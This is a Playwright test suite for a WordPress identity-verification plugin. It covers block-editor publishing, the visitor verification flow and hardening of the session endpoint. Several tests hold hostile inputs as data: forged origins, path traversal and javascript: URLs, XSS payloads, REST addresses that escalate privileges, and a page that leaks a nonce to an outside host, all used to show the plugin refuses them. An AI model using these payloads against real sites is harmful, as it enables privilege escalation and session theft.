// The plugin and the four lines in a real WordPress, walked as its people do: an author writes a page in the block
// editor, a visitor verifies on it. Built files, in Chromium. Not part of `npm test`: `npm run test:wordpress`.
import { randomUUID } from 'node:crypto';
import type { Browser, Page } from '@playwright/test';
import { startWordPress } from '../../demo/hosts/wordpress/site.mjs';
import type { WordPress } from '../../demo/hosts/wordpress/site.mjs';
import { callNames, installPageCamera } from '../../src/testing/index.ts';
import type { JsonValue, WidgetPage } from '../../src/testing/index.ts';
import { expect, test as base } from '../e2e/support/fixtures.ts';

const SESSION = '/wp-json/trueid/v1/session';
const FAILED = 'Chưa xác minh được. Vui lòng thử lại, hoặc gọi 1900 1234.';

/** The four lines as the README has them, with WordPress's endpoint. */
const fourLines = (script: string): string =>
  [
    `<script src="${script}" crossorigin="anonymous" defer></script>`,
    '<button type="button" commandfor="verify" command="--start">Xác minh danh tính</button>',
    `<trueid-widget id="verify" session-url="${SESSION}" done-url="/cam-on/">`,
    `  <span slot="failed">${FAILED}</span>`,
    '</trueid-widget>',
  ].join('\n');

const test = base.extend<object, { site: WordPress }>({
  site: [
    async ({ sandboxServer }, use) => {
      const site = await startWordPress(sandboxServer.config);
      await site.evaluate(
        `wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_title' => 'Cảm ơn', 'post_name' => 'cam-on']);`,
      );
      await use(site);
      await site.stop();
    },
    // on a new machine it gets PHP and MariaDB first
    { scope: 'worker', timeout: 600_000 },
  ],
});

test.afterEach(async ({ site }) => {
  expect(await site.complaints()).toEqual([]);
});

async function logIn(page: Page, site: WordPress, user: 'admin' | 'editor'): Promise<void> {
  await page.goto(`${site.url}/wp-login.php`);
  const name = page.getByLabel('Username or Email Address');
  // a fifth of a second after it has loaded, the page puts the focus there: what is typed meanwhile would go there too
  await expect(name).toBeFocused();
  await name.fill(user);
  await page.getByLabel('Password', { exact: true }).fill(site.password);
  await page.getByRole('button', { name: 'Log In' }).click();
  await page.waitForURL('**/wp-admin/**');
}

/** In the block editor, on a new page with a title. */
async function newPage(browser: Browser, site: WordPress, user: 'admin' | 'editor', title: string): Promise<Page> {
  const author = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
  await logIn(author, site, user);
  await author.goto(`${site.url}/wp-admin/post-new.php?post_type=page`);
  await author.getByRole('textbox', { name: 'Add title' }).fill(title);
  await author.getByRole('textbox', { name: 'Add title' }).press('Enter');
  return author;
}

/** Inserts a block by its name, as one does from the keyboard. */
async function insertBlock(author: Page, name: string): Promise<void> {
  await author.keyboard.type(`/${name}`);
  // by its text: an icon may be part of its accessible name
  await author.getByRole('option').filter({ hasText: name }).click();
}

/** Publishes the page and resolves with its address. */
async function publish(author: Page): Promise<string> {
  await author.getByRole('button', { name: 'Publish', exact: true }).click();
  await author
    .getByRole('region', { name: 'Editor publish' })
    .getByRole('button', { name: 'Publish', exact: true })
    .click();
  const link = author.getByRole('region', { name: 'Editor publish' }).getByRole('link', { name: 'View Page' });
  const address = await link.getAttribute('href');
  await author.context().close();
  return address ?? '';
}

/** What WordPress has kept of the newest page. */
const storedContent = (site: WordPress): Promise<string> =>
  site.evaluate(`echo get_posts(['post_type' => 'page', 'numberposts' => 1])[0]->post_content;`);

/** From the button to the result, as a visitor. */
async function verify(page: Page, widget: WidgetPage, button: string): Promise<void> {
  await widget.skipPauses();
  await page.getByRole('button', { name: button }).click();
  for (const step of [1, 2, 3] as const) await widget.passStep(step);
}

/** Keeps what the page is told across its navigation. */
async function hearEvents(page: Page): Promise<string[]> {
  const heard: string[] = [];
  await page.exposeFunction('hearEvent', (type: string) => heard.push(type));
  await page.addInitScript(() => {
    for (const type of ['trueid_result', 'trueid_error', 'trueid_close'])
      addEventListener(type, () => (Reflect.get(window, 'hearEvent') as (type: string) => void)(type));
  });
  return heard;
}

test('an administrator pastes the four lines, and a visitor verifies', async ({
  site,
  browser,
  page,
  widget,
  sandbox,
  complaints,
}) => {
  const author = await newPage(browser, site, 'admin', 'Xác minh');
  await insertBlock(author, 'Custom HTML');
  await author.keyboard.insertText(fourLines(site.script));
  const address = await publish(author);
  expect(await storedContent(site)).toBe(`<!-- wp:html -->\n${fourLines(site.script)}\n<!-- /wp:html -->`);

  const heard = await hearEvents(page);
  await installPageCamera(page);
  await page.goto(address);
  await expect(page.getByText(FAILED)).toBeHidden();
  await verify(page, widget, 'Xác minh danh tính');
  await page.waitForURL(`${site.url}/cam-on/`);
  expect(heard).toEqual(['trueid_result']);
  // the plugin mints the token and creates the request; the widget makes the other calls
  expect(sandbox.log().map(({ call }) => call)).toEqual(callNames);
  expect(complaints.console).toEqual([]);
});

test('an editor’s filtered HTML loses the script, the element and the command', async ({ site, browser, page }) => {
  const author = await newPage(browser, site, 'editor', 'Filtered');
  await insertBlock(author, 'Custom HTML');
  await author.keyboard.insertText(fourLines(site.script));
  await page.goto(await publish(author));
  const kept = await storedContent(site);
  for (const lost of ['<script', 'trueid-widget', 'command', 'slot=']) expect(kept).not.toContain(lost);
  // what the manual warns of: a button that does nothing, and the sentence of the failure for everyone
  await expect(page.getByText(FAILED)).toBeVisible();
});

const SHORTCODE = `[trueid session-url="${SESSION}" lang="en" done="Verified, thank you."]`;
/** What an editor writes, what WordPress keeps of it, and what a visitor finds. */
const WRITINGS = [
  {
    what: 'the shortcode',
    block: 'Shortcode',
    fill: (author: Page) => author.keyboard.insertText(SHORTCODE),
    stored: `<!-- wp:shortcode -->\n${SHORTCODE}\n<!-- /wp:shortcode -->`,
    button: 'Verify my identity',
    done: 'Verified, thank you.',
  },
  {
    what: 'the block',
    block: 'Identity verification',
    async fill(author: Page) {
      await author.getByLabel('Button', { exact: true }).fill('Xác minh ngay');
      await author.getByLabel('Language').fill('vi');
    },
    stored: '<!-- wp:trueid/identity {"label":"Xác minh ngay","lang":"vi"} /-->',
    button: 'Xác minh ngay',
    done: 'Đã xác minh. Cảm ơn bạn.',
  },
];

for (const { what, block, fill, stored, button, done } of WRITINGS)
  test(`an editor writes ${what}: anyone verifies`, async ({ site, browser, page, widget, sandbox, complaints }) => {
    const author = await newPage(browser, site, 'editor', what);
    await insertBlock(author, block);
    await fill(author);
    const address = await publish(author);
    expect(await storedContent(site)).toBe(stored);
    await installPageCamera(page);
    await page.goto(address);
    await expect(page.getByText(done)).toBeHidden();
    await verify(page, widget, button);
    await widget.result();
    await expect(page.getByText(done)).toBeVisible();
    await expect(page.getByText('Not verified.')).toBeHidden();
    expect(complaints.console).toEqual([]);

    sandbox.reset();
    await logIn(page, site, 'editor');
    complaints.console.length = 0;
    await page.goto(address);
    await expect(page.locator('trueid-widget')).toHaveAttribute('session-url', /trueid_nonce=\w+$/);
    await page.getByRole('button', { name: button }).click();
    await widget.expectStep(1);
    await expect.poll(() => sandbox.log().map(({ call }) => call)).toEqual(['token', 'create']);
    await widget.close();
    expect(complaints.console).toEqual([]);
  });

test('a shortcode in the middle of a classic paragraph leaves the element whole', async ({ site, page }) => {
  await site.evaluate(
    `wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_title' => 'Classic', 'post_name' => 'classic',
      'post_content' => "Before [trueid lang=\\"en\\"] after.\\n\\nThe next paragraph."]);`,
  );
  await page.goto(`${site.url}/classic/`);
  await expect(page.locator('p > trueid-widget > span[slot]')).toHaveCount(2);
  await expect(page.locator('p', { has: page.locator('trueid-widget') })).toContainText(/^Before .* after\.$/);
  await expect(page.getByText('Not verified.')).toBeHidden();
});

test('the script tag has no version and CORS, and optimisers are to leave it alone', async ({ site, page }) => {
  await page.goto(`${site.url}/classic/`);
  const html = await (await fetch(`${site.url}/classic/`)).text();
  expect(html.match(/<script[^>]*trueid-widget[^>]*>/g)).toEqual([
    `<script data-cfasync="false" crossorigin="anonymous" defer src='${site.script}' id='trueid-identity-js'>`,
  ]);
  const answers = await site.evaluate(`echo json_encode([
    apply_filters('rocket_delay_js_exclusions', ['/jquery']),
    apply_filters('rocket_exclude_defer_js', []),
    apply_filters('litespeed_optm_js_defer_exc', []),
    apply_filters('litespeed_optimize_js_excludes', []),
    apply_filters('autoptimize_filter_js_exclude', 'seal.js, jquery.js'),
    apply_filters('autoptimize_filter_js_exclude', ''),
    apply_filters('autoptimize_filter_js_exclude', ['jquery.js' => '']),
  ]);`);
  expect(JSON.parse(answers)).toEqual([
    ['/jquery', 'trueid-widget'],
    ['trueid-widget'],
    ['trueid-widget'],
    ['trueid-widget'],
    'seal.js, jquery.js, trueid-widget',
    'trueid-widget',
    { 'jquery.js': '', 'trueid-widget': '' },
  ]);
});

/** Asks for a session as a program does, which can send any header. */
const ask = (site: WordPress, headers: HeadersInit, method = 'POST'): Promise<Response> =>
  fetch(site.url + SESSION, {
    method,
    headers,
    ...(method === 'POST' && { body: '{}' }),
  });

test('the endpoint answers its own pages only, and shares nothing', async ({ site, page, sandbox, serve }) => {
  const own = await ask(site, { origin: site.url });
  expect(own.status).toBe(200);
  expect(own.headers.get('cache-control')).toBe('no-store');
  expect(Object.keys((await own.json()) as object).sort()).toEqual(['accessToken', 'appId', 'domain', 'requestId']);
  const made = sandbox.log().length;

  const foreign: Record<string, string>[] = [
    {},
    { origin: 'null' },
    { origin: 'https://evil.example' },
    { origin: `${site.url}.evil.example` },
    { origin: site.url.replace('localhost', '127.0.0.1') },
    { origin: site.url.replace('http:', 'https:') },
    { origin: site.url, 'sec-fetch-site': 'cross-site' },
    { origin: site.url, 'sec-fetch-site': 'same-site' },
  ];
  for (const headers of foreign) {
    const answer = await ask(site, headers);
    expect([answer.status, JSON.stringify(headers)]).toEqual([403, JSON.stringify(headers)]);
    expect(answer.headers.get('access-control-allow-origin')).toBeNull();
    expect(answer.headers.get('access-control-allow-credentials')).toBeNull();
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(await answer.text()).not.toMatch(/accessToken|secret/i);
  }
  expect((await ask(site, {}, 'GET')).status).toBe(404);
  // a real page elsewhere can neither make it nor read it
  const elsewhere = await serve({ html: '<!doctype html><title>Elsewhere</title>', policy: '' });
  await page.goto(elsewhere.url);
  const outcome = await page.evaluate(
    (url) =>
      fetch(url, { method: 'POST', credentials: 'include', body: '{}' }).then(
        ({ status }) => String(status),
        (error: unknown) => String(error),
      ),
    site.url + SESSION,
  );
  expect(outcome).toBe('TypeError: Failed to fetch');
  expect(sandbox.log()).toHaveLength(made);
});

test('one visitor gets so many sessions a minute, then 429', async ({ site, sandbox }) => {
  const statuses: number[] = [];
  // the minute may change in between
  for (let count = 0; count < 60 && statuses.at(-1) !== 429; count += 1) {
    const answer = await ask(site, { origin: site.url });
    statuses.push(answer.status);
    if (answer.status === 429) expect(answer.headers.get('retry-after')).toBe('60');
  }
  expect(statuses.at(-1)).toBe(429);
  expect(new Set(statuses.slice(0, -1))).toEqual(new Set([200]));
  expect(statuses.length).toBeGreaterThan(10);
  expect(sandbox.log().filter(({ call }) => call === 'create')).toHaveLength(statuses.length - 1);
  // not for the tests that follow
  await site.evaluate(
    `global $wpdb; $wpdb->query("DELETE FROM $wpdb->options WHERE option_name LIKE 'trueid_sessions_%'");`,
  );
});

/** Opens a session for each address inside of the site, on a clock of the test's own. Resolves with what `result` is then. */
async function openAt(
  site: WordPress,
  minute: number,
  addresses: string,
  code: string,
  result: string,
): Promise<unknown> {
  const answer = await site.evaluate(
    `$_SERVER['HTTP_ORIGIN'] = home_url();
    add_filter('pre_http_request', fn () => ['response' => ['code' => 200],
      'body' => '{"access_token":"token","result":"1","request_id":"42"}']);
    ${code}
    foreach (${addresses} as $address) {
      $_SERVER['REMOTE_ADDR'] = $address;
      $statuses[] = rest_do_request(new WP_REST_Request('POST', '/trueid/v1/session'))->get_status();
    }
    echo json_encode(${result});`,
    // far from the real time, which other tests count in
    `$_SERVER['REQUEST_TIME_FLOAT'] = $clock = ${(50_000_000 + minute) * 60} + 0.5;
    eval('namespace TrueID\\Identity;
      function time(): int { return (int) $GLOBALS["clock"]; }
      function microtime(bool $as_float): float { return $GLOBALS["clock"]; }');`,
  );
  return JSON.parse(answer) as unknown;
}

test('the limit counts every session: of visitors at once, of an IPv6 network, of the whole site', async ({ site }) => {
  const statuses = (
    minute: number,
    addresses: string,
    perVisitor: number,
    perSite: number,
    code = '',
  ): Promise<unknown> =>
    openAt(
      site,
      minute,
      addresses,
      `add_filter('trueid_sessions_per_minute', fn () => ${perVisitor});
      add_filter('trueid_site_sessions_per_minute', fn () => ${perSite});
      ${code}`,
      '$statuses',
    );
  // processes side by side, as a web server has them, which wait for each other to begin
  const meet = `
    add_option('meeting_' . getmypid(), '');
    $count = "SELECT COUNT(*) FROM $wpdb->options WHERE option_name LIKE 'meeting%'";
    while ($wpdb->get_var($count) < 4);`;
  const crowd = Array.from({ length: 4 }, () => statuses(1, `array_fill(0, 100, '192.0.2.1')`, 200, 1000, meet));
  const answers = (await Promise.all(crowd)).flat();
  expect([answers.filter((status) => status === 200).length, answers.length]).toEqual([200, 400]);

  const own = `['2001:db8::1', '2001:db8:0:0:1::2', '2001:db8:0:1::1', '::ffff:192.0.2.1', '::ffff:192.0.2.2', '192.0.2.2']`;
  expect(await statuses(2, own, 1, 1000)).toEqual([200, 429, 200, 200, 200, 429]);

  // whoever is refused already takes nothing of the others'
  const mixed = `['192.0.2.1', '192.0.2.1', '192.0.2.1', '192.0.2.2', '192.0.2.3']`;
  expect(await statuses(3, mixed, 1, 2)).toEqual([200, 429, 429, 200, 429]);

  // the counts of one visitor and of the site: none of earlier minutes
  const kept = `$wpdb->get_var("SELECT COUNT(*) FROM $wpdb->options WHERE option_name LIKE 'trueid_sessions_%'")`;
  expect(await openAt(site, 4, `['192.0.2.1']`, '', kept)).toBe('2');
});

test('the provider’s two calls together have less time than the widget waits', async ({ site }) => {
  const calls = (secondsOfToken: number): Promise<unknown> =>
    openAt(
      site,
      5,
      `['192.0.2.1']`,
      `add_filter('pre_http_request', function ($answer, $options) {
        $GLOBALS['timeouts'][] = $options['timeout'];
        $GLOBALS['clock'] += ${secondsOfToken};
        return $answer;
      }, 20, 2);`,
      '[...$timeouts, ...$statuses]',
    );
  expect(await calls(5)).toEqual([13, 8, 200]);
  // no request that nobody would hear of
  expect(await calls(13)).toEqual([13, 502]);
  await site.forgetComplaints();
});

test('the plugin accepts the answers that the widget accepts, and no others', async ({ site, sandbox }) => {
  const answerTo = async (token: JsonValue, create: JsonValue): Promise<unknown> => {
    sandbox.script({ token: { httpStatus: 201, body: token }, create: { httpStatus: 202, body: create } });
    const answer = await ask(site, { origin: site.url });
    const { accessToken, requestId } = (await answer.json()) as Record<string, unknown>;
    sandbox.reset();
    return answer.status === 200 ? [accessToken, requestId] : answer.status;
  };
  expect(await answerTo({ access_token: 4711 }, { result: 1, request_id: 42 })).toEqual(['4711', '42']);
  expect(await answerTo({ access_token: ' a b ' }, { result: '1', request_id: ' r ' })).toEqual(['a b', 'r']);
  expect(await answerTo({ access_token: 'line\nline' }, { result: 1, request_id: 42 })).toBe(502);
  expect(await answerTo({ access_token: ' ' }, { result: 1, request_id: 42 })).toBe(502);
  expect(await answerTo({ access_token: true }, { result: 1, request_id: 42 })).toBe(502);
  expect(await answerTo({ access_token: 'token' }, { result: 0, request_id: 42 })).toBe(502);
  expect(await answerTo({ access_token: 'token' }, { result: 1, request_id: null })).toBe(502);
});

test('the plugin hands on what a person agreed to, beside the ids, and refuses other bodies with a sentence', async ({
  site,
}) => {
  const consent = {
    at: '2026-03-01T08:00:00.000Z',
    lang: 'vi',
    digest: 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=',
    choices: { photos: true, by: null },
  };
  const code = `add_action('trueid_request_created', fn (...$given) => update_option('given', $given), 10, 3);`;
  await withSiteCode(site, code, async () => {
    const send = async (body: string): Promise<unknown> => {
      const headers = { origin: site.url, 'content-type': 'application/json' };
      const answer = await fetch(site.url + SESSION, { method: 'POST', headers, body });
      const { message, requestId } = (await answer.json()) as Record<string, unknown>;
      if (answer.status !== 200) return [answer.status, message];
      const [id, user, given] = JSON.parse(await site.evaluate(`echo json_encode(get_option('given'));`)) as unknown[];
      return [id === requestId, user, given];
    };
    expect(await send(JSON.stringify({ consent }))).toEqual([true, 0, consent]);
    expect(await send('{}')).toEqual([true, 0, null]);
    expect(await send('[]')).toEqual([400, 'The body is not a JSON object.']);
    expect(await send('{"consent":{}}')).toEqual([400, 'consent.at is not an ISO time in UTC.']);
    expect(await send(JSON.stringify({ consent: { ...consent, choices: [] } }))).toEqual([
      400,
      'consent.choices has other values.',
    ]);
    expect(await send(JSON.stringify({ consent, more: 'x'.repeat(10_000) }))).toEqual([
      400,
      'The body is longer than 10,000 bytes.',
    ]);
    expect(await send('{"consent"')).toMatchObject([400, expect.stringMatching(/\.$/)]);
  });
});

test('what other plugins put in the place of an answer or of a script’s tag passes through', async ({ site }) => {
  const answers = await site.evaluate(`
    $server = rest_get_server();
    // without WordPress's own, which take nothing but its own class
    foreach (['rest_send_allow_header', 'rest_filter_response_fields'] as $own)
      remove_filter('rest_post_dispatch', $own);
    $request = new WP_REST_Request('GET', '/wp/v2/posts');
    echo json_encode([
      apply_filters('rest_post_dispatch', ['theirs'], $server, $request),
      is_wp_error(apply_filters('rest_post_dispatch', new WP_Error('theirs'), $server, $request)),
      apply_filters('rest_pre_serve_request', false, ['theirs'], $request, $server),
      apply_filters('script_loader_tag', null, 'theirs', ''),
    ]);`);
  expect(JSON.parse(answers)).toEqual([['theirs'], true, false, null]);
});

test('a provider that fails is a 502 without a word of its own', async ({ site, sandbox }) => {
  sandbox.script({ token: { httpStatus: 500 } });
  const answer = await ask(site, { origin: site.url });
  expect([answer.status, await answer.json()]).toEqual([
    502,
    { code: 'trueid_provider', message: 'The provider did not open a session.', data: { status: 502 } },
  ]);
  expect(await site.complaints()).toEqual([
    expect.stringContaining('TrueID identity: the provider answered /auth/v1/oauth/accessToken with 500.') as unknown,
  ]);
  await site.forgetComplaints();
});

/** What a page shows of a shortcode or a block, after the site's own `code`: for a visitor, and for an author. */
async function rendered(
  site: WordPress,
  shortcodes: readonly string[],
  code = '',
): Promise<[visitor: string, author: string][]> {
  const list = Buffer.from(JSON.stringify(shortcodes)).toString('base64');
  const answer = await site.evaluate(`${code}
    $all = [];
    foreach (json_decode(base64_decode('${list}')) as $each) {
      wp_set_current_user(0);
      $visitor = do_shortcode(do_blocks($each));
      wp_set_current_user(get_user_by('login', 'editor')->ID);
      $all[] = [$visitor, do_shortcode(do_blocks($each))];
    }
    echo json_encode($all);`);
  return JSON.parse(answer) as [string, string][];
}

/** Addresses that an author can write, and that change the site for an administrator; each changes something else. */
const HOSTILE = [
  '/wp-json/wp/v2/users/2?roles=administrator',
  '/wp-json/wp/v2/plugins/akismet/akismet?status=active',
  '/wp-json/wp/v2/pages/PAGE?_method=DELETE',
  '/wp-json/batch/v1?requests%5B0%5D%5Bpath%5D=/wp/v2/tags%3Fname%3Dbatch',
  '/?rest_route=/wp/v2/settings&title=Taken',
  '/index.php?rest_route=/wp/v2/tags&name=index',
  'SITE/wp-json/wp/v2/tags?name=absolute',
  // the plugin's own path, and another route in its query
  '/wp-json/trueid/v1/session?rest_route=/wp/v2/tags&name=query',
];

test('an author can’t send visitors or their photos elsewhere, nor the administrator to another route: addresses are this plugin’s', async ({
  site,
}) => {
  const elsewhere = [
    ...['https://evil.example/session', '//evil.example/session', '/\\evil.example/session', '\\\\evil.example'],
    ...['http://user@localhost/wp-json/x', `${site.url}@evil.example/wp-json/x`],
    ...['/wp-json/../wp-content/uploads/session.txt', '/wp-json/%2e%2e/wp-content/uploads/session.txt'],
    ...['/wp-json/%2E%2e%2fwp-content/uploads/session.txt', '/wp-json/..?x', 'javascript:alert(1)'],
    ...['data:application/json,{}', 'session'],
  ];
  const uploaded = ['/wp-content/uploads/session.txt', '/wp-content/uploads/session.txt?rest_route=/trueid/v1/session'];
  const ofOthers = HOSTILE.map((address) => address.replace('SITE', site.url));
  const sessions = [...elsewhere, ...uploaded, ...ofOthers];
  const pages = [
    'javascript:alert(1)',
    'data:text/html,x',
    '//evil.example',
    'https://evil.example/',
    'ftp://localhost/',
  ];
  const all = [
    ...sessions.map((url) => `[trueid session-url="${url}"]`),
    ...pages.map((url) => `[trueid done-url="${url}"]`),
  ];
  for (const [index, [visitor, author]] of (await rendered(site, all)).entries()) {
    expect([all[index], visitor]).toEqual([all[index], '']);
    expect(author).toMatch(/^<strong role="alert">TrueID identity: (session|done)-url must be /);
  }
  // a shortcode loses its backslashes, a block keeps them
  const block = (options: object): string => `<!-- wp:trueid/identity ${JSON.stringify(options)} /-->`;
  const refused = [
    '',
    expect.stringMatching(/<strong role="alert">TrueID identity: [a-z]+-url must be [^<]+</) as unknown,
  ];
  expect(await rendered(site, [block({ doneUrl: '/\\evil.example' })])).toEqual([refused]);
  // a filter of the site that accepts anything is asked about this site's addresses only
  const blocks = elsewhere.map((sessionUrl) => block({ sessionUrl }));
  const acceptsAnything = `add_filter('trueid_session_url', '__return_true');`;
  expect(await rendered(site, blocks, acceptsAnything)).toEqual(blocks.map(() => refused));
  const own = [SESSION, site.url + SESSION, '/?rest_route=/trueid/v1/session'].map((url) => `session-url="${url}"`);
  const fine = ['', ...own, 'done-url="/cam-on"', `done-url="${site.url}/cam-on"`].map(
    (option) => `[trueid ${option}]`,
  );
  for (const [visitor, author] of await rendered(site, fine)) {
    expect(visitor).toContain('<trueid-widget ');
    expect(author).toContain('?trueid_nonce=');
  }
});

/** What they would change: who is an administrator, which plugins run, the site's name, its pages and its tags. */
const siteState = (site: WordPress): Promise<string> =>
  site.evaluate(`echo json_encode([
    'administrators' => wp_list_pluck(get_users(['role' => 'administrator']), 'user_login'),
    'plugins' => get_option('active_plugins'),
    'title' => get_option('blogname'),
    'pages' => wp_list_pluck(get_pages(), 'post_title'),
    'tags' => wp_list_pluck(get_terms(['taxonomy' => 'post_tag', 'hide_empty' => false]), 'name'),
  ]);`);

/** Publishes a page of the editor's with `[trueid session-url="…" label="Preview"]`, and resolves with its address. */
function writePreview(site: WordPress, address: string): Promise<string> {
  const shortcode = Buffer.from(`[trueid session-url="${address}" label="Preview"]`).toString('base64');
  return site.evaluate(`
    $write = fn ($title, $content) => wp_insert_post(['post_type' => 'page', 'post_status' => 'publish',
      'post_author' => 2, 'post_title' => $title, 'post_content' => $content]);
    $shortcode = base64_decode('${shortcode}');
    echo get_permalink($write('Preview', strtr($shortcode, ['PAGE' => $write('Terms', ''), 'SITE' => home_url()])));`);
}

/**
 * The outcome of `work`, while the site runs PHP of its own beside the plugin. Each file has a name of its own: for 2 seconds,
 * PHP may run a file that it has compiled in place of another one of the same name.
 */
async function withSiteCode<T>(site: WordPress, code: string, work: () => Promise<T>): Promise<T> {
  const file = `WPMU_PLUGIN_DIR . '/${randomUUID()}.php'`;
  const text = Buffer.from(`<?php ${code}`).toString('base64');
  await site.evaluate(`wp_mkdir_p(WPMU_PLUGIN_DIR); file_put_contents(${file}, base64_decode('${text}'));`);
  try {
    return await work();
  } finally {
    await site.evaluate(`unlink(${file});`);
  }
}

test('an address that a filter accepts gets no nonce: who presses is a visitor, and changes nothing', async ({
  site,
  page,
}) => {
  await installPageCamera(page);
  await logIn(page, site, 'admin');
  const pressed: unknown[] = [];
  await withSiteCode(site, `add_filter('trueid_session_url', '__return_true');`, async () => {
    for (const address of HOSTILE) {
      await page.goto(await writePreview(site, address));
      const before = await siteState(site);
      const answer = page.waitForResponse((response) => response.request().method() === 'POST');
      await page.getByRole('button', { name: 'Preview' }).click();
      pressed.push([address, String((await answer).status()), (await siteState(site)) === before]);
    }
  });
  const visitor = expect.stringMatching(/^(401|207)$/) as unknown;
  expect(pressed).toEqual(HOSTILE.map((address) => [address, visitor, true]));
});

/** Sends the nonce that WordPress puts in `[trueid]` to another site, wherever it runs a shortcode for an author. */
const LEAKING = `
  <p><img alt="" src="https://elsewhere.example/x.png?l=[trueid]" title="[trueid]" data-x="[trueid]">
  <a href="https://elsewhere.example/?l=[trueid]">More</a></p>
  <!-- [trueid] -->`;
/** A site that runs shortcodes in its widgets' titles, and remembers who verified. */
const SITE_CODE = `
  add_filter('widget_title', 'do_shortcode');
  add_action('wp_footer', fn () => the_widget('WP_Widget_Text', ['title' => '[trueid]', 'text' => '']), 1);
  add_action('trueid_request_created', fn ($request, $user) => update_option('verified', $user), 10, 2);`;

test('a nonce that a page gives away opens one person’s session only', async ({ site, page, sandbox, serve }) => {
  await withSiteCode(site, SITE_CODE, async () => {
    const address = await site.evaluate(`
      wp_set_current_user(get_user_by('login', 'editor')->ID);
      echo get_permalink(wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_title' => 'Leaking',
        'post_content' => base64_decode('${Buffer.from(LEAKING).toString('base64')}')]));`);
    await page.route('https://elsewhere.example/**', (route) => route.fulfill({ body: '' }));
    await logIn(page, site, 'admin');
    const sent = page.waitForRequest('https://elsewhere.example/**');
    await page.goto(address);
    const printed = await page.evaluate(() => {
      const image = document.querySelector('img[data-x]');
      const comments = document.createNodeIterator(document, NodeFilter.SHOW_COMMENT);
      let comment = comments.nextNode();
      while (comment && !comment.textContent?.includes('trueid')) comment = comments.nextNode();
      return {
        title: image?.getAttribute('title'),
        data: image?.getAttribute('data-x'),
        href: document.querySelector('[href*="elsewhere.example"]')?.getAttribute('href'),
        widgetTitle: document.querySelector('.widgettitle')?.innerHTML,
        comment: comment?.textContent,
      };
    });
    // the one place where WordPress runs no shortcode
    expect(printed.comment).toBe(' [trueid] ');
    const { title, data, href, widgetTitle } = printed;
    const leaks = [title, data, href, widgetTitle, (await sent).url()].map(
      (text) => /nonce=(\w{10})/.exec(decodeURIComponent(text ?? ''))?.[1],
    );
    const nonce = leaks[0] ?? 'none';
    expect(leaks).toEqual(leaks.map(() => nonce));

    // with it, in the administrator's own browser
    const asks = ['GET users/me', 'GET users?context=edit', 'GET settings', 'POST settings?title=Taken'];
    const answers = await page.evaluate(
      ([leaked, all]) =>
        Promise.all(
          all.map(async (ask) => {
            const [method = '', route = ''] = ask.split(' ');
            const url = `/wp-json/wp/v2/${route}`;
            const inQuery = `${url}${url.includes('?') ? '&' : '?'}_wpnonce=${leaked}`;
            const inHeader = await fetch(url, { method, headers: { 'x-wp-nonce': leaked } });
            return [ask, (await fetch(inQuery, { method })).status, inHeader.status];
          }),
        ),
      [nonce, asks] as const,
    );
    expect(answers).toEqual(asks.map((ask) => [ask, 403, 403]));

    const withNonce = `${site.url}${SESSION}?trueid_nonce=${nonce}`;
    const verified = (): Promise<string> => site.evaluate(`echo get_option('verified');`);
    // from elsewhere, which has the person's cookies but neither their origin nor the answer
    const made = sandbox.log().length;
    await page.goto((await serve({ html: '<!doctype html><title>Elsewhere</title>', policy: '' })).url);
    const answer = page.waitForResponse(withNonce);
    await page.evaluate((url) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: url });
      document.body.append(form);
      form.submit();
    }, withNonce);
    expect((await answer).status()).toBe(403);
    expect(sandbox.log()).toHaveLength(made);
    // without the person's cookies it is worth as much as none
    expect((await fetch(withNonce, { method: 'POST', headers: { origin: site.url } })).status).toBe(200);
    expect(await verified()).toBe('0');

    await page.goto(address);
    const own = await page.evaluate(async (url) => (await fetch(url, { method: 'POST' })).status, withNonce);
    expect([own, await verified()]).toEqual([200, '1']);
  });
});

test('curly quotation marks are refused with a sentence, and text stays text', async ({ site }) => {
  const [curly, curlyWords, hostile] = await rendered(site, [
    `[trueid session-url=“${SESSION}”]`,
    '[trueid label=“Verify my identity”]',
    `[trueid label='"><script>alert(1)</script>' done='<img src=x onerror=alert(1)>' lang='"x']`,
  ]);
  for (const [visitor, author] of [curly ?? [], curlyWords ?? []]) {
    expect(visitor).toBe('');
    expect(author).toContain('has curly quotation marks. Type straight ones');
  }
  expect(hostile?.[0]).not.toMatch(/<script|<img/);
});

test('with TRUEID_CAPABILITY, visitors sign in, and a nonce is good for its own person', async ({ site }) => {
  const answers = await site.evaluate(`
    define('TRUEID_CAPABILITY', 'read');
    $_SERVER['HTTP_ORIGIN'] = home_url();
    $_SERVER['REQUEST_METHOD'] = 'POST';
    $sign_in = function ($name) {
      $id = get_user_by('login', $name)->ID;
      $token = WP_Session_Tokens::get_instance($id)->create(time() + 60);
      $_COOKIE[LOGGED_IN_COOKIE] = wp_generate_auth_cookie($id, time() + 60, 'logged_in', $token);
      wp_set_current_user($id);
      return [$_COOKIE[LOGGED_IN_COOKIE], wp_create_nonce('trueid_nonce')];
    };
    $editor = $sign_in('editor');
    $admin = $sign_in('admin');
    wp_set_current_user(0);
    $ask = function ($cookie, $nonce) {
      $_COOKIE[LOGGED_IN_COOKIE] = $cookie;
      $request = new WP_REST_Request('POST', '/trueid/v1/session');
      $request->set_query_params(['trueid_nonce' => $nonce]);
      return [rest_do_request($request)->get_status(), get_current_user_id()];
    };
    echo json_encode([
      $ask('', ''),
      $ask('', $editor[1]),
      $ask($editor[0], ''),
      $ask($editor[0], $admin[1]),
      $ask($editor[0], [$editor[1]]),
      $ask($editor[0], $editor[1]),
    ]);`);
  expect(JSON.parse(answers)).toEqual([401, 401, 401, 403, 403, 200].map((status) => [status, 0]));
});

test('the administrator is told what is wrong in wp-config.php; until then there is no button', async ({ site }) => {
  const notices = await site.evaluate(
    `wp_set_current_user(1); do_action('admin_notices'); wp_set_current_user(0); echo '|', do_shortcode('[trueid]');`,
    // before wp-config.php can
    `error_reporting(0); define('TRUEID_PROVIDER', 'http://provider.example'); define('TRUEID_APP_SECRET', '');`,
  );
  expect(
    notices
      .replaceAll(/<[^>]*>/g, '\n')
      .split('\n')
      .filter(Boolean),
  ).toEqual([
    'TrueID identity: TRUEID_APP_SECRET is missing in wp-config.php.',
    'TrueID identity: TRUEID_PROVIDER must be an https address (http is for localhost only).',
    '|',
  ]);
});
